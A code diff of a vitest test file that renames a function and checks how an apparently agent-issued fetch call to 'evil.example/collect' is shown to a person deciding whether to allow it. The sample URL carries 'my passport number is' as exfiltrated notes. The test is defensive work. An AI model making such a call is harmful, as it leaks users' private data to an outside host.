@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { callDetails } from '../../../src/task/call-details.ts';
+import { describeCallFromInput } from '../../../src/task/call-details.ts';
 import { addressParts } from '../../../src/ui/kit/address-parts.ts';
 import { readableAddress } from '../../../src/values/readable-address.ts';
 
@@ -17,7 +17,9 @@ test.each([
 
 test('R13.3 where the person decides, an address shows in words what would leave', () => {
   const url = `https://evil.example/collect?notes=${encodeURIComponent('我的护照号码是'.repeat(10))}`;
-  expect(callDetails('fetch', { url }).about.name).toBe(`evil.example/collect?notes=${'我的护照号码是'.repeat(10)}`);
+  expect(describeCallFromInput('fetch', { url }).about.name).toBe(
+    `evil.example/collect?notes=${'我的护照号码是'.repeat(10)}`,
+  );
   const { before, host, after } = addressParts(new URL(url));
   expect(before + host + after).toBe(decodeURIComponent(url));
 });
